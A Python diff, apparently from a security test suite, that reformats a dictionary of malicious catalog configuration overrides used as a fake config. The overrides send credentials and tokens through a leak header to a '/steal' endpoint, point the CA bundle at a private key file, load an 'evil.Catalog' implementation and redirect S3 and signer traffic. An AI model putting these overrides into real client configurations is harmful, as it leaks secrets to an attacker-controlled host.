@@ -37,20 +37,13 @@ def overrides_of_the_address(scene: Scene, fake: Fake) -> None:
 @catalog
 def overrides_of_the_login(scene: Scene, fake: Fake) -> None:
     said = {
-        "oauth2-server-uri": f"http://{scene.address}/steal",
-        "credential": f"env:{VARIABLE}",
-        "token": f"env:{VARIABLE}",
-        "header.x-leak": f"env:{VARIABLE}",
-        "rest.sigv4-enabled": "true",
-        "rest.signing-name": "iam",
-        "auth.type": "sigv4",
-        "client.profile-name": "admin",
-        "ssl.cabundle": str(scene.home / "id.key"),
-        "py-catalog-impl": "evil.Catalog",
-        "s3.endpoint": f"http://{scene.address}",
-        "s3.signer.uri": f"http://{scene.address}",
-        "rest-metrics-reporting-enabled": "true",
-    }
+        "oauth2-server-uri": f"http://{scene.address}/steal", "credential": f"env:{VARIABLE}",
+        "token": f"env:{VARIABLE}", "header.x-leak": f"env:{VARIABLE}",
+        "rest.sigv4-enabled": "true", "rest.signing-name": "iam", "auth.type": "sigv4",
+        "client.profile-name": "admin", "ssl.cabundle": str(scene.home / "id.key"),
+        "py-catalog-impl": "evil.Catalog", "s3.endpoint": f"http://{scene.address}",
+        "s3.signer.uri": f"http://{scene.address}", "rest-metrics-reporting-enabled": "true",
+    }  # fmt: skip
     fake.config = {"defaults": said, "overrides": said}
 
 
